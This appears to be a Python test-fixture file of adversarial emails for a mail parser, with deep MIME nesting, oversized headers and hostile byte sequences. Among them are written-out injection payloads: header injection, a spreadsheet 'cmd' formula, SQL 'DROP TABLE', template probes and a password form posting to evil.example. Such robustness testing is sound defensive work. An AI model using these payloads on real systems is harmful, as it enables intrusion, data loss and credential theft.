"""Mails that were made to break whoever reads them."""

from __future__ import annotations

from mails.mail import SIPHO, WORDS, between, letter, mail, part, parted, text


def nested(depth: int, inside: bytes = b"The innermost till\r\n") -> bytes:
    """Parts within parts, none of them closed."""
    heads = [f"Content-Type: multipart/mixed; boundary=b{level}\r\n\r\n--b{level}\r\n" for level in range(depth)]
    return letter("", None)[:-2] + "".join(heads).encode() + b"Content-Type: text/plain\r\n\r\n" + inside


MAILS = [
    mail("twenty deep", nested(20), text="The innermost till", sender=SIPHO),
    mail("a thousand deep", nested(1000), fault="deep", sender=SIPHO, files=("file-1.bin",)),
    mail(
        "a thousand parts",
        parted("mixed", *[text(f"Till {number}") for number in range(1000)]),
        text="Till 400",
        fault="more than 500 parts",
    ),
    mail(
        "a thousand files",
        parted("mixed", text(), *[part("image/png", b"x")] * 1000),
        text=WORDS.strip(),
        fault="more than 500 parts",
    ),
    mail(
        "headers without end",
        letter(X_Till=["y" * 60] * 3000),
        sender=SIPHO,
        text=WORDS.strip(),
        fault="too many or too long",
    ),
    mail(
        "one header without end",
        letter(X_Till="y" * 400_000),
        sender=SIPHO,
        text=WORDS.strip(),
        fault="too many or too long",
    ),
    mail("a subject without end", letter(Subject="till " * 10_000), subject=("till " * 100).strip()),
    mail("a subject of open words", letter(Subject="=?u?q?" * 5000), sender=SIPHO),
    mail("a From of brackets", letter(From="(" * 20_000), sender=None),
    mail("a From of angles", letter(From="<" * 20_000), sender=None),
    mail("a From of @", letter(From="a@" * 10_000), sender=None),
    mail("a From of quotation marks", letter(From='"' * 9_999 + SIPHO), sender=...),
    mail(
        "ten thousand recipients",
        letter(To=",\n ".join(f"a{number}@x.example" for number in range(10_000))),
        sender=SIPHO,
    ),
    mail("parameters without end", letter(kind="text/plain;" + ' a="b;' * 2000), sender=SIPHO, text=WORDS.strip()),
    mail(
        "a parameter in a thousand pieces",
        letter(kind="text/plain;" + "".join(f" a*{number}*=%41;" for number in range(1000))),
        text=WORDS.strip(),
    ),
    mail(
        "a parameter in pieces numbered with words",
        letter(kind="text/plain; a*x*=1; a*99999999999999999999=2; charset*=utf-8"),
        text=WORDS.strip(),
    ),
    mail("a parameter with nothing in it", letter(kind="text/plain; =; ;; charset"), text=WORDS.strip()),
    mail(
        "an attempt to write our headers",
        letter(Subject=b"Till\r\nX-Ours: yes\r\nAuto-Submitted: auto-replied"),
        subject="Till",
        kind="auto_reply",
    ),
    mail("bytes of every kind", bytes(range(256)) * 8, sender=None),
    mail("bytes of every kind below headers", letter(bytes(range(256)) * 8), sender=SIPHO),
    mail(
        "bytes of every kind above them",
        letter(Subject=bytes(byte for byte in range(256) if byte not in b"\r\n")),
        sender=SIPHO,
    ),
    mail("NULs alone", b"\0" * 1000, sender=None, text=""),
    mail(
        "a boundary within headers",
        letter(between(text("Till")), "multipart/mixed; boundary=cut-here", Subject="--cut-here"),
        text="Till",
        subject="--cut-here",
    ),
    mail("HTML that opens a thousand blocks", letter("<blockquote>" * 1000 + "till", "text/html"), text="till"),
    mail("HTML that opens and never closes", letter("<a " * 5000 + "till", "text/html"), text="till"),
    mail("HTML of open comments", letter("<!--" * 5000 + "till", "text/html"), text="till"),
    mail(
        "HTML of characters by number",
        letter("&#0;&#xD800;&#x202e;&#99999999999;till", "text/html"),
        text="till",
        not_text=("\0", "\u202e"),
    ),
    mail(
        "a page that asks for a password",
        letter('<form action="https://evil.example"><input name=p>Password?</form>', "text/html"),
        text="Password?",
    ),
    mail("spreadsheet formulas", letter("=HYPERLINK(1)", Subject="=cmd|' /C calc'!A0"), subject="=cmd|' /C calc'!A0"),
    mail(
        "the words of a database",
        letter("'); DROP TABLE ticket;--", Subject="Robert'); DROP TABLE"),
        text="'); DROP TABLE ticket;--",
    ),
    mail(
        "the words of a template",
        letter("{{ 7*7 }} ${7*7} <%= 7 %>", Subject="{{ config }}"),
        subject="{{ config }}",
        text="{{ 7*7 }}",
    ),
]
